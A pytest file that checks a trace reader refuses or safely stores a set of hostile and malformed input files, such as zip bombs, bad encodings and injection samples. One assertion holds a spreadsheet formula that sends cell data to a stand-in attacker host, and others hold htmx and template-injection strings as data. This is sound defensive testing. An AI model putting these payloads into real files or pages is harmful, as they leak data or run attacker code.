"""The hostile and broken files, each with the result that their index expects of an import."""

from pathlib import Path

import pytest

from workers.formats import Rejected, read_traces
from workers.parsing import parse


@pytest.fixture
def read(shared_data):
    def read_file(name):
        return list(read_traces(shared_data / "bad_inputs" / name))

    return read_file


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("01_empty.jsonl", "no records"),
        ("31_csv_semicolon_dup_header.csv", "'problem;answer;answer'"),
        ("33_not_parquet.parquet", "not a Parquet file"),
        ("35_zip_bomb.eval", "ZIP archive"),
        ("37_truncated.eval", "ZIP archive"),
        ("39_evil_checkpoint.pt", "ZIP archive"),
        ("41_st_bad_offsets.safetensors", "binary file"),
        ("43_st_dup_key.safetensors", "binary file"),
        ("45_sse_broken.txt", "not JSON lines"),
        ("51_parquet_bomb.parquet", "decodes to more than 128 MiB"),
        ("53_wide.parquet", "5,000 columns"),
    ],
)
def test_file_that_cannot_be_read_is_refused_in_words(read, name, words):
    with pytest.raises(ValueError, match=words):
        read(name)


@pytest.mark.parametrize(
    ("name", "records", "rejected"),
    [
        ("03_bom.jsonl", 1, {}),
        ("05_gbk.jsonl", 0, {1: "not UTF-8"}),
        ("07_truncated_last.jsonl", 3, {4: "cut off"}),
        ("09_json_array.jsonl", 5, {}),
        ("11_nan_inf.jsonl", 2, {}),
        ("13_lone_surrogate.jsonl", 1, {}),
        ("15_deep_nesting.jsonl", 0, {1: "nested too deeply"}),
        ("17_int53.jsonl", 1, {}),
        ("19_huge_line.jsonl", 1, {}),
        ("21_unknown_fields.jsonl", 1, {}),
        ("23_htmx_attrs.jsonl", 1, {}),
        ("25_django_template.jsonl", 1, {}),
        ("27_unbalanced_think.jsonl", 8, {}),
        ("29_csv_formula.csv", 2, {}),
        ("47_rubric_injection.jsonl", 1, {}),
        ("49_negative_time.jsonl", 3, {}),
    ],
)
def test_rows_are_read_or_named(read, name, records, rejected):
    rows = read(name)
    refused = {row.line: row.why for row in rows if isinstance(row, Rejected)}

    assert len(rows) - len(refused) == records
    assert refused.keys() == rejected.keys()
    for line, words in rejected.items():
        assert words in refused[line]


def test_byte_order_mark_is_not_part_of_a_name(read):
    assert read("03_bom.jsonl")[0].prompt == "1+1?"


def test_not_a_number_becomes_null_and_is_noted(read):
    first, second = read("11_nan_inf.jsonl")

    assert first.metadata == second.metadata == {"score": None}
    assert first.lost == ("score (NaN or Infinity, stored as null)",)


def test_lone_surrogate_is_replaced_and_noted(read):
    [trace] = read("13_lone_surrogate.jsonl")

    assert (trace.prompt, trace.completion) == ("\ufffd", "\ufffd ok")
    assert [words.split(" ")[0] for words in trace.lost] == ["problem", "response"]
    trace.completion.encode("utf-8")


def test_large_integer_is_kept_exactly(read):
    [trace] = read("17_int53.jsonl")

    assert trace.provenance == {"id": 9007199254740993}
    assert trace.source_id == "9007199254740993"


def test_huge_line_is_whole(read):
    [trace] = read("19_huge_line.jsonl")

    assert len(trace.completion) > 1_100_000
    assert trace.completion.endswith("\\boxed{2}")


def test_unknown_fields_are_kept(read):
    assert read("21_unknown_fields.jsonl")[0].metadata == {"foo": 1, "bar": {"a": [1]}}


def test_hostile_text_is_only_text(read):
    assert read("23_htmx_attrs.jsonl")[0].completion.startswith('<div hx-get="/admin/"')
    assert read("25_django_template.jsonl")[0].completion.startswith("{{ 7|add:7 }}")
    first, second = read("29_csv_formula.csv")
    assert first.prompt == '=HYPERLINK("http://attacker.invalid?x="&A1,"click")'
    assert (second.prompt, second.problem.answer, second.completion) == ("+1", "-1", "\t=1+1")


def test_impossible_dates_stay_text_in_the_metadata(read):
    assert [trace.metadata["created_at"] for trace in read("49_negative_time.jsonl")] == [
        "0000-00-00T00:00:00Z", 1e20, "2026-02-30",
    ]  # fmt: skip


def test_unbalanced_tags_survive_whole(read, shared_data):
    for trace in read("27_unbalanced_think.jsonl"):
        segments = parse(trace.prompt, trace.reasoning, trace.completion, "").segments
        parts = [trace.completion[s["start"] : s["end"]] for s in segments if s["field"] == "completion"]
        assert "".join(parts) == trace.completion


def test_every_bad_input_ends_in_words(shared_data):
    """No file of the folder may end in anything but records, rejections or a ValueError with a message."""
    files = [path for path in Path(shared_data / "bad_inputs").iterdir() if path.is_file()]
    assert len(files) == 28
    for path in files:
        found = outcome(path)
        assert found, path
        assert type(found) in {list, ValueError}, path
        assert str(found), path


def outcome(path):
    try:
        return list(read_traces(path))
    except ValueError as error:
        return error
